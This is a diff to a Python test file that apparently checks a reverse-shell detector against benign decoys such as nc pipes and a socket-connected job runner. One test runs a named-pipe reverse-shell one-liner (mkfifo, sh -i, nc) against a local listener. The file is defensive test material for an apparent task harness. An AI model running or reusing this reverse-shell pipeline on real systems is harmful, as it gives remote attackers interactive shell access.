@@ -127,7 +127,13 @@ def test_fifo_pipeline_reverse_shell_and_a_port_check_next_to_a_shell(task_env: 
         srv.accept()[0].close()
         # benign: an operator's session (a shell reading commands from a pipe, as `docker exec -i` gives it)
         # talks to a service through nc from a subshell: the subshell reads and writes the session's own stdio
-        task_env.run("worker", ["sh"], stdin=f"(echo PING; sleep 2) | /tmp/nc 127.0.0.9 {port}\n", wait=False)
+        task_env.run(
+            "worker",
+            ["sh"],
+            stdin=f"(echo PING; sleep 2) | /tmp/nc 127.0.0.9 {port}\necho | /tmp/nc 127.0.0.9 {port} | head -c 1\n",
+            wait=False,
+        )
+        srv.accept()[0].close()
         srv.accept()[0].close()
         pipeline = f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | /tmp/nc 127.0.0.9 {port} > /tmp/f"
         task_env.run("app", ["sh", "-c", pipeline], wait=False)
@@ -169,6 +175,12 @@ time.sleep(7)
 subprocess.run(["/bin/sh"], input=b"sleep 2; echo done\\n", stdout=subprocess.PIPE, check=True)
 """
 
+JOB_RUNNER = """
+import socket, subprocess, sys
+db = socket.create_connection(("127.0.0.9", int(sys.argv[1])))  # connects, then at once runs its job script
+subprocess.run(["/bin/sh"], input=b"sleep 3; echo done\\n", stdout=subprocess.PIPE, check=True)
+"""
+
 TERMINAL_SESSION = """
 import os, socket, subprocess, sys, time
 s = socket.create_connection(("127.0.0.9", int(sys.argv[1])))
@@ -187,6 +199,8 @@ def test_shell_pumped_by_a_client_and_a_terminal_session(task_env: TaskEnv, tmp_
     with listener("127.0.0.9") as (srv, port):
         task_env.run("worker", [PY, "-c", POOLED_APP, str(port)], wait=False)
         pooled, _ = srv.accept()
+        task_env.run("worker", [PY, "-c", JOB_RUNNER, str(port)], wait=False)
+        job, _ = srv.accept()
         task_env.run("worker", [PY, "-c", TERMINAL_SESSION, str(port)], wait=False)
         benign, _ = srv.accept()
         time.sleep(4)
@@ -199,6 +213,7 @@ def test_shell_pumped_by_a_client_and_a_terminal_session(task_env: TaskEnv, tmp_
             conn.sendall(b"exit\n")
         time.sleep(5)  # the pooled app's maintenance script has run
         pooled.close()
+        job.close()
     Finding.model_validate(f)
     assert f["service"]["runtimeDetails"]["process"]["executablePath"] in ("/bin/dash", "/usr/bin/dash")
     assert f["service"]["runtimeDetails"]["context"]["relayProcess"].startswith("python")
